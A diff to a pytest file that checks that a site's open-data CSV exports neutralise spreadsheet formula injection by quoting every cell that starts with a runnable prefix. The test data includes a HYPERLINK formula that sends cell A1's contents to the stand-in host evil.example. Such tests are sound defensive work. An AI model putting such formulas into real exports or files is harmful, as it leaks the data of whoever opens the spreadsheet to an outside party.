@@ -18,8 +18,11 @@ PREFIXES = ["=", "==", "+", "-", "@", "\t", "\r"]
 RUNNABLE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 
 
+PAYLOAD_TAIL = 'HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")'
+
+
 def payload(prefix: str) -> str:
-    return prefix + 'HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")'
+    return prefix + PAYLOAD_TAIL
 
 
 def download(client: Client, url: str) -> bytes:
@@ -42,7 +45,8 @@ def assert_no_cell_runs(rows: list[dict[str, str]]) -> None:
 def evil_network(request: pytest.FixtureRequest, db: None) -> str:
     """A member, a facility and an activity whose texts all start with the prefix."""
     value = payload(request.param)
-    member = MemberFactory(name=value, description=value, website=value, phone=value)
+    phone = request.param + "1+1"  # the column holds 20 characters
+    member = MemberFactory(name=value, description=value, website=value, phone=phone)
     FacilityFactory(member=member, name=value, address=value, opening_notes=value)
     ActivityFactory(
         title=value,
@@ -61,8 +65,9 @@ def test_members_csv_quotes_every_runnable_cell(evil_network: str, client: Clien
     rows = read_csv(download(client, "/open-data/members.csv"))
 
     assert len(rows) == 1
-    for column in ("名称", "紹介", "ウェブサイト", "電話番号"):
+    for column in ("名称", "紹介", "ウェブサイト"):
         assert rows[0][column] == "'" + evil_network, column
+    assert rows[0]["電話番号"] == "'" + evil_network.removesuffix(PAYLOAD_TAIL) + "1+1"
     assert_no_cell_runs(rows)
 
 
